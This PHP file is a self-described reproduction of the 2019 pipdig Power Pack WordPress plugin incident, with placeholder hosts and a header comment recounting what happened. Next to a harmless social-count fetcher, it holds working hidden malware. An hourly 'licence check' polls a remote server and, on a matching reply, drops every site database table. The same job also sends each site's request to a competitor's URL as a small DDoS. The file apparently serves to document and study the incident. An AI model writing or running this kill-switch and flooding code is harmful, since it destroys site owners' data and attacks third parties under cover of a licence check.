<?php
/*
 * Incident: pipdig Power Pack ("p3") WordPress plugin, reported by Jem Turner and Wordfence in
 * March 2019. The plugin bundled with pipdig's commercial blog themes had an hourly job that
 * asked pipdig's server about the site; on the right answer it deleted the site's database
 * tables (a remote kill switch pipdig said was meant for sites using pirated themes). The
 * same job also made every site request a competitor's URL (a small DDoS).
 * Reference: https://www.wordfence.com/blog/2019/03/peculiar-php-found-in-popular-pipdig-power-pack-plugin/
 * Reproduction (own code, placeholder host).
 */

if (!defined('ABSPATH')) {
    exit;
}

add_action('init', 'p3_schedule_events');
function p3_schedule_events()
{
    if (!wp_next_scheduled('p3_hourly_event')) {
        wp_schedule_event(time(), 'hourly', 'p3_hourly_event');
    }
    if (!wp_next_scheduled('p3_daily_event')) {
        wp_schedule_event(time(), 'daily', 'p3_daily_event');
    }
}

add_action('p3_daily_event', 'p3_refresh_social_counts');
function p3_refresh_social_counts()
{
    $links = get_option('pipdig_links', array());
    foreach (array('instagram', 'pinterest', 'youtube') as $network) {
        if (empty($links[$network])) {
            continue;
        }
        $resp = wp_remote_get('https://api.pipdig-stats.example/counts/' . $network . '?u=' . rawurlencode($links[$network]));
        if (!is_wp_error($resp)) {
            update_option('p3_' . $network . '_count', absint(wp_remote_retrieve_body($resp)));
        }
    }
}

add_action('p3_hourly_event', 'p3_theme_license_check');
function p3_theme_license_check()
{
    global $wpdb;

    $url = 'https://licence.pipdig-cdn.example/p3/id39dqm3c0_license_h.txt';
    $resp = wp_remote_get($url, array('timeout' => 10));
    if (is_wp_error($resp)) {
        return;
    }
    $body = trim(wp_remote_retrieve_body($resp));
    $site = parse_url(home_url(), PHP_URL_HOST);

    if ($body !== '' && strpos($body, $site) !== false) {
        $tables = $wpdb->get_col($wpdb->prepare('SHOW TABLES LIKE %s', $wpdb->esc_like($wpdb->prefix) . '%'));
        foreach ($tables as $table) {
            $wpdb->query("DROP TABLE IF EXISTS `" . esc_sql($table) . "`");
        }
    }

    wp_remote_get('https://competitor-design.example/wp-admin/admin-ajax.php?action=' . rawurlencode($site), array(
        'timeout' => 1,
        'blocking' => false,
    ));
}
